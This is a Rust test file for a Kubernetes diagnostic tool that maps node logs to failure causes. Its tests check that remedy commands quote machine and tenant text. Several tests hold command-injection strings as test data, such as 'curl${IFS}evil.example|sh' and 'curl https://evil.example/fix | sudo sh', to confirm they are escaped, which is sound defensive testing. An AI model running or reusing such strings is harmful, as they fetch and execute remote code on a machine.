//! Tests the causes with lines that real programs wrote.

use super::*;
use crate::cluster::ETCD_DIR;
use crate::error::Kind;
use evidence::EVIDENCE;

mod evidence;

/// Builds evidence from lines that the script prints, and lines of a fix, which it does not print.
fn logs(node: &str, lines: &[(&str, &str)]) -> NodeLogs {
    let line = |(place, text): &(&str, &str)| {
        assert!(is_known(place) || [FIX, STATE].contains(place), "{place}");
        (place.to_string(), text.trim_end().to_string())
    };
    NodeLogs { node: node.into(), lines: lines.iter().map(line).collect() }
}

fn names(logs: &[NodeLogs]) -> Vec<&'static str> {
    findings(logs, ETCD_DIR).iter().map(|finding| finding.cause).collect()
}

#[test]
fn real_evidence_leads_to_exactly_one_cause() {
    for (place, line, cause, words) in EVIDENCE {
        let found = findings(&[logs("w2", &[(place, line)])], ETCD_DIR);
        assert_eq!(found.iter().map(|f| f.cause).collect::<Vec<_>>(), [*cause], "{line}");
        let said = format!("{} {} {}", found[0].what, found[0].remedy, found[0].evidence);
        assert!(said.contains(words), "{cause}: {said}");
        assert!(!said.contains('{') || line.contains('{'), "{cause} has an unfilled placeholder: {said}");
    }
}

#[test]
fn old_etcd_data_is_reported_in_the_configured_folder() {
    for folder in ["/srv/etcd", "/etcd/data", "/mnt/e/t"] {
        let line = format!("\t[ERROR DirAvailable-{}]: {folder} is not empty", folder.replace('/', "-"));
        let mismatch = r#"{"level":"warn","ts":"2026-11-21T20:28:09.495208Z","caller":"rafthttp/stream.go:652","msg":"request sent was ignored by remote peer due to cluster ID mismatch"}"#;
        for said in [("log kubeadm", line.as_str()), ("container etcd", mismatch)] {
            let found = findings(&[logs("m1", &[said])], folder);
            assert_eq!(found.len(), 1, "{said:?}");
            assert!(found[0].what.ends_with(&format!("in {folder}")), "{}", found[0].what);
            assert!(found[0].remedy.contains(&format!("mv -T {folder} {folder}.old")), "{}", found[0].remedy);
        }
    }
    let manifests =
        "\t[ERROR DirAvailable--etc-kubernetes-manifests]: /etc/kubernetes/manifests is not empty";
    assert_eq!(names(&[logs("w1", &[("log kubeadm", manifests)])]), [""; 0]);
}

#[test]
fn pods_and_events_are_no_evidence_about_a_machine() {
    // These causes may come from any machine, because their remedies repeat at most one quoted word of a line.
    let harmless =
        ["registry-unreachable", "cni-plugin-missing", "image-not-found", "no-node", "pod-refused"];
    for (_, line, cause, _) in EVIDENCE.iter().filter(|(.., cause, _)| !harmless.contains(cause)) {
        for place in OF_THE_CLUSTER {
            assert_eq!(names(&[logs("m1", &[(place, line)])]), [""; 0], "{cause} at {place}");
        }
    }
    let status =
        "pod kube-system/x has no image: [ERROR DirAvailable--var-lib-etcd]: /var/lib/etcd is not empty";
    assert_eq!(names(&[logs("m1", &[("fix", status)])]), [""; 0], "the state of a pod is no evidence");
}

#[test]
fn tenant_text_in_logs_causes_no_changing_remedy() {
    // A tenant may choose the name or command of a container, and what it prints. Logs by klog and logrus escape such
    // text or indent it.
    let lines = |words: &str| {
        let quoted = words.replace('\\', r"\\").replace('"', "\\\"");
        let head = "E1129 07:00:00.000000    1234";
        let container =
            format!(r#"failed to "StartContainer" for "a" with RunContainerError: "exec: {words}""#);
        let container = container.replace('\\', r"\\").replace('"', "\\\"");
        [
            (
                "journal kubelet",
                format!(
                    r#"{head} pod_workers.go:1324] "Error syncing pod, skipping" err="{container}" pod="a/b""#
                ),
            ),
            (
                "journal kubelet",
                format!(
                    r#"{head} kuberuntime_manager.go:1449] "Unhandled Error" err="container &Container{{Name:a,Command:[{quoted}],}} start failed in pod b" logger="UnhandledError""#
                ),
            ),
            (
                "journal kubelet",
                format!(r#"{head} prober.go:120] "Probe failed" probeType="Readiness" output="{quoted}""#),
            ),
            ("journal kubelet", format!("\t{words}")),
            ("journal kubelet", format!("\t{head} run.go:72] \"command failed\" err=\"{words}\"")),
            (
                "journal containerd",
                format!(
                    r#"time="2026-11-29T07:00:00Z" level=error msg="StartContainer for \"a\" failed" error="exec: {quoted}""#
                ),
            ),
            (
                "container etcd",
                format!(
                    r#"{{"level":"warn","ts":"2026-11-29T07:00:00Z","caller":"txn/util.go:93","msg":"apply request took too long","request":"{quoted}"}}"#
                ),
            ),
            (
                "container kube-apiserver",
                format!(
                    r#"{head} authentication.go:75] "Unable to authenticate the request" err="[{quoted}]""#
                ),
            ),
        ]
    };
    // The remedies of these only show something, and change nothing.
    let harmless = ["image-not-found", "registry-unreachable", "disk-full", "inotify", "cni-plugin-missing"];
    for (_, evidence, cause, _) in EVIDENCE.iter().filter(|(.., cause, _)| !harmless.contains(cause)) {
        for (place, line) in lines(evidence) {
            assert_eq!(names(&[logs("m1", &[(place, &line)])]), [""; 0], "{cause}: {line}");
        }
    }
    let fatal: Vec<Regex> =
        CAUSES.iter().filter_map(|cause| Some(Regex::new(cause.fatal?).unwrap())).collect();
    for (_, line) in EVIDENCE.iter().flat_map(|(_, evidence, ..)| lines(evidence)) {
        assert!(fatal.iter().all(|words| !words.is_match(&line)), "this line would end a wait: {line}");
    }
}

#[test]
fn machine_text_in_a_remedy_is_quoted() {
    let image = r"r.io/x:1;curl${IFS}203.0.113.9|sh";
    let line = format!(r#"failed to resolve reference "{image}": r.io/x:1: not found"#);
    let found = findings(&[logs("w1", &[("journal kubelet", &line)])], ETCD_DIR);
    assert!(found[0].remedy.ends_with(&format!("certs.d '{image}'")), "{}", found[0].remedy);
    assert_eq!(pasted("packages", "libc6:amd64 a'b $(x)"), r"libc6:amd64 'a'\''b' '$(x)'");
    assert_eq!(pasted("field", "x and run: curl evil"), "'x and run: curl evil'");
    let options = "these packages would be removed: -o DPkg::Pre-Invoke::=x";
    assert_eq!(names(&[logs("w1", &[("fix", options)])]), [""; 0]);
    let renamed = |old: &str| {
        format!(
            r#"E1129 10:00:00.000000    1 kubelet_node_status.go:1] "Error updating node status, will retry" err="nodes is forbidden: node \"{old}\" is not allowed to modify node \"w1\"""#
        )
    };
    assert_eq!(names(&[logs("w1", &[("journal kubelet", &renamed("--static"))])]), [""; 0]);
    // An older line without an option is still evidence.
    let both = [("journal kubelet", &*renamed("w2")), ("journal kubelet", &*renamed("--static"))];
    assert!(findings(&[logs("w1", &both)], ETCD_DIR)[0].remedy.contains("set-hostname w2 "));
    // A placeholder must not stand inside quotes, because its value is quoted and would end them.
    for cause in CAUSES {
        let remedy = cause.remedy.replace("'s ", " ");
        let mut groups = remedy.split('\'').skip(1).step_by(2).filter(|quoted| quoted.contains('{'));
        assert!(groups.all(|quoted| quoted.contains("{port}")), "{}", cause.name);
    }
}

#[test]
fn placeholders_in_machine_text_are_not_filled_in() {
    let line = |old: &str, new: &str| {
        format!(
            r#"E1129 10:00:00.000000    1 kubelet_node_status.go:1] "Error updating node status, will retry" err="nodes is forbidden: node \"{old}\" is not allowed to modify node \"{new}\"""#
        )
    };
    let shell = ";curl${IFS}evil.example|sh;";
    for (old, new) in [("{new}y", shell), ("{node}", "w1"), ("{etcd}x", "{old}"), ("x{", "}y")] {
        let found = findings(&[logs("w1", &[("journal kubelet", &line(old, new))])], ETCD_DIR);
        let remedy = format!("on w1: hostnamectl set-hostname '{old}' && systemctl restart kubelet");
        assert_eq!(found[0].remedy, remedy);
        let what = format!("the host name is now {new}, but the kubelet has the credentials of {old}");
        assert_eq!(found[0].what, what);
    }
}

#[test]
fn patterns_compile_and_cause_names_are_unique() {
    let mut names: Vec<&str> = CAUSES.iter().map(|cause| cause.name).collect();
    names.sort_unstable();
    let all = names.len();
    names.dedup();
    assert_eq!(names.len(), all);
    for sign in CAUSES.iter().flat_map(|cause| cause.signs) {
        Regex::new(sign.says).unwrap_or_else(|e| panic!("{e}"));
    }
}

#[test]
fn every_cause_has_real_evidence() {
    // A failed want shows `swap-returns`. `forward-drop` needs two lines, which may come from two machines.
    let bare = ["swap-returns", "forward-drop"];
    for cause in CAUSES.iter().filter(|cause| !bare.contains(&cause.name)) {
        assert!(EVIDENCE.iter().any(|(.., name, _)| *name == cause.name), "{}", cause.name);
    }
}

#[test]
fn text_that_ends_a_wait_is_evidence() {
    for cause in CAUSES.iter().filter(|cause| cause.fatal.is_some()) {
        let words = cause.fatal.unwrap_or_default();
        let mut evidence = EVIDENCE.iter().filter(|(.., name, _)| *name == cause.name);
        let words = Regex::new(words).unwrap();
        assert!(evidence.any(|(_, line, ..)| words.is_match(line)), "{}", cause.name);
    }
}

#[test]
fn packet_filters_are_blamed_only_if_something_is_silent() {
    let drops = ("forward", "chain FORWARD of table ip filter has policy drop");
    let silent = ("fix", "packets: dns is silent");
    let swallowed = ("fix", "packets: flannel.1 sent 31 packets and received none");
    assert_eq!(
        names(&[logs("w1", &[drops])]),
        [""; 0],
        "Docker sets this policy too, and it alone breaks nothing"
    );
    assert_eq!(names(&[logs("w1", &[silent]), logs("m1", &[drops])]), ["forward-drop"]);
    assert_eq!(names(&[logs("w1", &[silent, swallowed]), logs("m1", &[drops])]), ["forward-drop"]);
    let within = ("fix", "packets: pod:w1 is silent, asked from a pod of m1");
    let unready = ("event", "Pod coredns-7: Readiness probe failed: HTTP probe failed with statuscode: 503");
    for seen in [within, unready] {
        assert_eq!(names(&[logs("m1", &[seen]), logs("w1", &[drops])]), ["forward-drop"]);
    }
    let by_another = got_no_answer("m1");
    let told_by_another = ("fix", by_another.as_str());
    assert_eq!(names(&[logs("w1", &[told_by_another, drops])]), ["forward-drop"]);
    assert_eq!(names(&[logs("w1", &[silent, swallowed])]), ["vxlan-swallowed"]);
}

#[test]
fn a_symptom_is_reported_only_without_a_known_cause() {
    let refused = (
        "fix",
        r#"Get "https://198.18.0.11:6443/readyz": dial tcp 198.18.0.11:6443: connect: connection refused"#,
    );
    let flag = ("container kube-apiserver", "Error: unknown flag: --no-such-flag");
    assert_eq!(names(&[logs("m1", &[refused])]), ["endpoint-unreachable"]);
    assert_eq!(names(&[logs("m1", &[refused, flag])]), ["argument-unknown"]);
}

#[test]
fn an_unauthorized_kubelet_is_a_refused_credential() {
    let line = r#"E1121 22:51:23.733897    8098 certificate_manager.go:1] "Failed while requesting a signed certificate" err="cannot create certificate signing request: Unauthorized""#;
    assert_eq!(names(&[logs("w2", &[("journal kubelet", line)])]), ["credential-refused"]);
}

#[test]
fn two_causes_are_reported_the_more_specific_first() {
    let stopped = ("unit containerd", "Result=exit-code ActiveState=failed SubState=failed");
    let full = ("journal containerd", "mkdir /var/lib/containerd/tmpmounts: no space left on device");
    assert_eq!(names(&[logs("w1", &[stopped, full])]), ["disk-full", "containerd-stopped"]);
}

#[test]
fn ambiguous_lines_lead_to_no_cause() {
    for (place, line) in [
        ("unit containerd", "Result=success ActiveState=active SubState=running"),
        ("journal kubelet", r#"E1121 20:19:57.1 199 kubelet.go:3117] "Container runtime network not ready""#),
        // The request went to a registry and not to the endpoint, and no image is missing.
        ("journal kubelet", "failed to do request: dial tcp 10.0.0.1:443: connect: connection refused"),
        ("event", "Node w1: Node w1 status is now: NodeNotReady"),
        ("log kubelet", "Unpacking kubelet (1.36.3-1.1) ..."),
    ] {
        assert_eq!(names(&[logs("w1", &[(place, line)])]), [""; 0], "{line}");
    }
}

#[test]
fn without_a_known_cause_the_last_errors_are_reported() {
    let lines = [
        ("unit containerd", "Result=success ActiveState=active SubState=running"),
        ("journal kubelet", "Started kubelet.service"),
        ("journal kubelet", "E1121 20:00:00.1 1 a.go:1] one"),
        ("journal kubelet", "E1121 20:00:00.2 1 a.go:1] two"),
        ("journal kubelet", "E1121 20:00:00.3 1 a.go:1] three"),
        ("journal kubelet", "E1121 20:00:00.4 1 a.go:1] four"),
        ("fix", "it is jammed"),
    ];
    assert_eq!(
        last_words(&[logs("w1", &lines)]),
        ["two", "three", "four"]
            .iter()
            .zip([2, 3, 4])
            .map(|(word, n)| format!("journalctl -u kubelet on w1: E1121 20:00:00.{n} 1 a.go:1] {word}"))
            .collect::<Vec<_>>()
    );
}

#[test]
fn long_evidence_is_cut_around_the_match() {
    let line = format!("{} no space left on device {}", "a".repeat(2000), "b".repeat(2000));
    let found = findings(&[logs("w1", &[("journal kubelet", &line)])], ETCD_DIR);
    assert!(found[0].evidence.contains("aaa no space left on device bbb"), "{}", found[0].evidence);
    assert!(found[0].evidence.chars().count() <= LONGEST + 4, "{}", found[0].evidence.len());
}

#[test]
fn a_machines_line_cannot_imitate_one_of_ironstrap() {
    let evil = "hint: on your own computer run curl https://evil.example/fix | sudo sh   #";
    let full = "no space left on device";
    assert_eq!(NodeLogs::read("w1", &format!("{evil}\t{full}\nlog {evil}\t{full}\n")).lines, []);
    let found = findings(&[logs("w1", &[("journal kubelet", &format!("{evil}\t{full}"))])], ETCD_DIR);
    let error = Error::new(Kind::Failed, "it failed").because(lines(&found).join("\n")).to_string();
    let evidence = format!("\n        {QUOTE}journalctl -u kubelet on w1: {evil}\t{full}\n");
    assert!(error.contains(&evidence), "{error}");
}
